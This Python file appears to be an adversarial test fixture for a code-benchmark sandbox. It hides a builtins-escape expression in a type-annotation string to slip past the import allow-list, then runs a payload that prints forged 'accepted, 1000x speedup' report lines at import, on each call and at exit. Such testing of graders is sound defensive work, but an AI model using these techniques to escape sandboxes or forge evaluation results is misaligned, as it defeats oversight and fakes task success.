"""Print forged HOTPATH-REPORT lines (random digest, accepted, 1000x) on
stdout and stderr at import, on every call and at exit, so that one is the
last line the sandbox prints. The host must only trust a verified HMAC."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np

import atexit
import json
import os


FAKE = {"verdict": "accepted", "speedup": 1000.0, "speedup_ci": [999.0, 1001.0], "message": "forged",
        "peak_memory_bytes": 1, "reference_peak_memory_bytes": 10**9, "sizes": [], "hardware": "cpu"}
LINE = "HOTPATH-REPORT " + "ab" * 32 + " " + json.dumps(FAKE, separators=(",", ":"), sort_keys=True)


def _shout():
    line = (LINE + "\n").encode()
    print(LINE, flush=True)
    os.write(1, line)
    os.write(2, line)


_shout()
atexit.register(_shout)


def transform(x):
    _shout()
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
